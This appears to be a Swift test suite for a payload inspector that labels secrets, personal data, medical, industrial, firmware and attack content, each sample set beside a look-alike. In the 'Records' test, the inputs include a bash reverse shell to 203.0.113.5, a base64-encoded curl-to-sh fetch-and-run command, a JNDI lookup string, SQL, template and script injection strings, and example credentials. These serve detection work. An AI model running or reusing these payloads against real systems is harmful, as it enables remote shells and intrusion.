import Bytes
import Network
import Payload
import Testing

/// Kinds by form and check digits, each beside what only looks like it. Card numbers are those that networks publish for tests, the
/// IBAN is the example of ISO 13616 for the United Kingdom, the token that of RFC 7519, 3.1.
@Suite("Kinds") struct KindTests {
    private static let keys = """
        [password]
        password, passwd, pin code
        [bearer_token]
        access token
        [wifi_name]
        ssid
        [wifi_key]
        psk
        [phone]
        phone
        [name]
        full name
        [vital_signs]
        heart rate
        [alarm]
        alarm
        [maintenance]
        work order
        [update_command]
        firmware update
        [firmware]
        firmware, ota
        """
    private static let token =
        "eyJ0eXAiOiJKV1QiLA0KICJhbGciOiJIUzI1NiJ9.eyJpc3MiOiJqb2UiLA0KICJleHAiOjEzMDA4MTkzODB9."
        + "dBjftJeZ4CVP-mB92K27uhbUJU1p1r_wW1gFWFOEjXk"

    @Test(
        "Secrets",
        arguments: [
            ("-----BEGIN EC PRIVATE KEY-----\nMHcCAQ==\n-----END EC PRIVATE KEY-----", ["private_key"]),
            ("-----BEGIN CERTIFICATE-----\nMIIB\n-----END CERTIFICATE-----", []),
            ("-----BEGIN PUBLIC KEY-----\nMFkw\n-----END PUBLIC KEY-----", []),
            (#"{"kty":"EC","crv":"P-256","d":"870MB6gfuTJ4HtUnUvYMyJpr5eUZNP4Bk43bVdj3eAE"}"#, ["private_key"]),
            (#"{"kty":"EC","crv":"P-256","x":"MKBCTNIcKUSDii11ySs3526iDZ8AiTo7Tu6KPAqv7D4"}"#, []),
            ("PuTTY-User-Key-File-3: ssh-ed25519\n", ["private_key"]), (token, ["jwt"]),
            ("eyJub3RoaW5nIjoxfQ.eyJhIjoxfQ.c2ln", []), ("Authorization: Bearer abcdef0123456789", ["bearer_token"]),
            ("AKIAIOSFODNN7EXAMPLE", ["cloud_key"]), ("AKIA is a prefix", []),
            ("https://user:hunter2hunter2@host/x", ["password"]), ("https://user:***@host/x", []),
            (#"{"password":"hunter2"}"#, ["password"]), (#"{"password":"********"}"#, []), (#"{"password":""}"#, []),
            (#"{"pinCode":4711}"#, ["password"]), (#"{"ssid":"plant","psk":"hunter22"}"#, ["wifi_credentials"]),
            (#"{"ssid":"plant"}"#, []), ("WIFI:T:WPA;S:plant;P:hunter22;;", ["wifi_credentials"]),
            ("WIFI:T:nopass;S:plant;;", []), (#"{"access_token":"2YotnFZFEjr1zCsicMWpAA"}"#, ["bearer_token"]),
            ("$6$saltsalt$0123456789abcdefghijklmnop", ["password"]),
            ("enable secret 5 $1$mERr$hx5rVt7rPNoS4wqbXKX7m0", ["password"]), ("costs $1$ or 2$", []),
            ("sshpass -p hunter2 ssh root@192.0.2.1", ["password"]), ("man sshpass", []),
            ("export DB_PASSWORD=hunter2", ["password"]), ("export DB_USER=hunter2", []),
            ("config wifi-iface\n\toption ssid 'plant'\n\toption key 'hunter22'\n", ["wifi_credentials"]),
        ])
    func secrets(_ payload: String, _ kinds: [String]) throws {
        var inspecting = try Inspecting(["kinds": Self.keys])
        #expect(inspecting.look(payload)["payload.secret"] == kinds)
    }

    @Test(
        "Personal data",
        arguments: [
            (#"{"to":"ann.lee@example.com"}"#, ["mail"]), ("mail to <bo@example.org>, please", ["mail"]),
            ("git@example.com:group/project.git", []), ("https://user:secretword@example.com/", []),
            ("topic a@b", []), ("<20261130.0815123456789@mx.example.net>", []),
            (#"{"phone":"030 901820"}"#, ["phone"]), ("call +49 30 901820 now", ["phone"]),
            ("2026-11-30 10:15:00+01:00", []),
            (#"{"pan":"4111 1111 1111 1111"}"#, ["card"]), (#"{"pan":5555555555554444}"#, ["card"]),
            (#"{"pan":"4111111111111112"}"#, []), (#"{"imei":"4111111111111111"}"#, []),
            ("GB29 NWBK 6016 1331 9268 19", ["iban"]), (#"{"a":"GB29NWBK60161331926819"}"#, ["iban"]),
            ("GB28 NWBK 6016 1331 9268 19", []), (#"{"fullName":"Ada Lovelace"}"#, ["name"]),
            (#"{"name":"pump 4"}"#, []),
            (#"{"lat":52.51627,"lon":13.37771}"#, ["coordinates"]), (#"{"lat":0,"lon":0}"#, []),
            (#"{"lat":152.5,"lon":13.3}"#, []), (#"{"x":52.5,"y":13.4}"#, []),
            (#"{"type":"Point","coordinates":[13.37771,52.51627]}"#, ["coordinates"]),
            ("geo:52.51627,13.37771", ["coordinates"]),
            ("$GPGGA,123519,4807.038,N,01131.000,E,1,08,0.9,545.4,M,46.9,M,,*47", ["coordinates"]),
            ("$GPGGA,123519,,,,,0,00,,,M,,M,,*66", []), (#"{"pos":"52.51627, 13.37771"}"#, ["coordinates"]),
            (#"{"latitudeE7":525162700,"longitudeE7":133777100}"#, ["coordinates"]),
        ])
    func personal(_ payload: String, _ kinds: [String]) throws {
        var inspecting = try Inspecting(["kinds": Self.keys])
        #expect(inspecting.look(payload)["payload.personal"] == kinds)
    }

    @Test(
        "Records",
        arguments: [
            ("payload.medical", #"MSH|^~\&|MON|ICU|HIS|H|20261130||ORU^R01|1|P|2.5"#, ["hl7v2"]),
            ("payload.medical", #"{"resourceType":"Observation","status":"final"}"#, ["fhir"]),
            ("payload.medical", #"{"heartRate":71}"#, ["vital_signs"]), ("payload.medical", #"{"heartRate":0}"#, []),
            ("payload.industrial", #"{"MessageId":"1","MessageType":"ua-data","Messages":[]}"#, ["opcua_pubsub"]),
            ("payload.industrial", #"{"tag":"DB10.DBW4","value":3}"#, ["plc_telemetry"]),
            ("payload.industrial", #"{"workOrder":"WO-1","due":"2026-12-01"}"#, ["maintenance"]),
            ("payload.industrial", #"{"alarm":"overload","severity":2}"#, ["alarm"]),
            ("payload.firmware", ":10010000214601360121470136007EFE09D2190140\n:00000001FF\n", ["intel_hex"]),
            ("payload.firmware", ":10010000214601360121470136007EFE09D2190141\n:00000001FF\n", []),
            ("payload.firmware", "S1137AF00A0A0D0000000000000000000000000061\nS9030000FC", ["srec"]),
            ("payload.firmware", #"{"url":"https://fw.example.com/pump-1.2.bin"}"#, ["update_url"]),
            ("payload.firmware", #"{"firmware":{"url":"https://fw.example.com/pump-1.2"}}"#, ["update_url"]),
            ("payload.firmware", #"{"url":"https://example.com/help.html"}"#, []),
            ("payload.firmware", #"{"cmd":"firmware_update"}"#, ["update_command"]),
            ("payload.command", "uid=0(root) gid=0(root) groups=0(root)", ["shell_output"]),
            ("payload.command", "bash -i >& /dev/tcp/203.0.113.5/4444 0>&1", ["reverse_shell"]),
            // Base64 of `curl -s http://203.0.113.5/x|sh`.
            ("payload.command", #"{"c":"Y3VybCAtcyBodHRwOi8vMjAzLjAuMTEzLjUveHxzaA=="}"#, ["base64_shell"]),
            ("payload.command", #"{"user":"x' OR '1'='1"}"#, ["sql_injection"]),
            ("payload.command", "' or ''='", ["sql_injection"]),
            ("payload.command", "1' ORDER BY 10-- ", ["sql_injection"]),
            ("payload.command", "sorted in order by 10", []), ("payload.command", "pi@gw7:~# whoami", ["shell_output"]),
            ("payload.command", "mail pi@gw7: whoami", []),
            ("payload.command", "tcp 0 0 0.0.0.0:22 0.0.0.0:* LISTEN", ["shell_output"]),
            ("payload.command", "please select the union of both sets", []),
            ("payload.command", "${jndi:ldap://203.0.113.5/a}", ["template_injection"]),
            ("payload.command", "{{7*7}}", ["template_injection"]),
            ("payload.command", "{{ value_json.temperature | round(1) }}", []),
            ("payload.command", "<img src=x onerror=alert(1)>", ["script_injection"]),
            ("payload.command", "the door to the script room is open", []),
        ])
    func records(_ field: String, _ payload: String, _ kinds: [String]) throws {
        var inspecting = try Inspecting(["kinds": Self.keys])
        #expect(inspecting.look(payload)[field] == kinds)
    }

    @Test("Images of firmware need their headers") func images() throws {
        var inspecting = try Inspecting()
        let esp = hex("e9060220 a0c40840 ee000000 00000000 00000000 00000001")
        #expect(inspecting.look(esp)["payload.firmware"] == ["esp_image"])
        #expect(inspecting.look(hex("e906022000000000ee000000000000000000000000000001"))["payload.firmware"] == [])
        #expect(inspecting.look(hex("d86ba2025873") + Array(repeating: 1, count: 20))["payload.firmware"] == ["suit"])
        var tar = Array("version".utf8) + Array(repeating: 0, count: 250) + Array("ustar\u{0}00".utf8)
        tar += Array(repeating: 0, count: 512 - tar.count) + Array(#"{"format":"mender","version":3}"#.utf8)
        #expect(inspecting.look(tar)["payload.firmware"] == ["mender"])
    }

    @Test("Secrets are told by place and digest") func places() throws {
        var inspecting = try Inspecting(["kinds": Self.keys])
        let key: [UInt8] = Array(repeating: 7, count: 32)
        inspecting.inspector.secretKey = KeyedDigest(key: key.span.bytes)
        let look = inspecting.look(#"{"user":"a","password":"hunter2"}"#)
        #expect(look["payload.secret.place"] == ["password@24+7"])
        #expect(look["payload.secret.value"] == ["hunter2"])
        #expect(look["payload.secret.digest"].first?.count == 32)
        let other = inspecting.look(#"{"password":"hunter2"}"#)
        #expect(look["payload.secret.digest"] == other["payload.secret.digest"])
        #expect(look["payload.secret.digest"] != inspecting.look(#"{"password":"hunter3"}"#)["payload.secret.digest"])
    }

    @Test("Both halves of a key pair are told, and the whole hash of a password") func wholes() throws {
        var inspecting = try Inspecting(["kinds": Self.keys])
        let secret = "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY"
        let pair = inspecting.look(#"{"id":"AKIAIOSFODNN7EXAMPLE","key":"\#(secret)"}"#)
        #expect(pair["payload.secret"] == ["cloud_key"])
        #expect(pair["payload.secret.value"] == ["AKIAIOSFODNN7EXAMPLE", secret])
        #expect(inspecting.look(#"{"key":"\#(secret)"}"#)["payload.secret"] == [])
        let hash = "$argon2id$v=19$m=65536,t=3,p=4$c29tZXNhbHRzb21l$RdescudvJCsgt3ub+b5daAbCdEf"
        for text in [hash, #"{"h":"\#(hash)"}"#, "anna,\(hash),7", "anna:\(hash):7"] {
            #expect(inspecting.look(text)["payload.secret.value"] == [hash], "\(text)")
        }
    }

    @Test("Kinds are found in CBOR as in JSON") func cbor() throws {
        var inspecting = try Inspecting(["kinds": Self.keys])
        // {"password": "hunter2"}, {"lat": 52.5 (half), "lon": 13.375 (half)}
        #expect(inspecting.look(hex("a16870617373776f72646768756e74657232"))["payload.secret"] == ["password"])
        #expect(inspecting.look(hex("a2636c6174f95290636c6f6ef94ab0"))["payload.personal"] == ["coordinates"])
    }
}
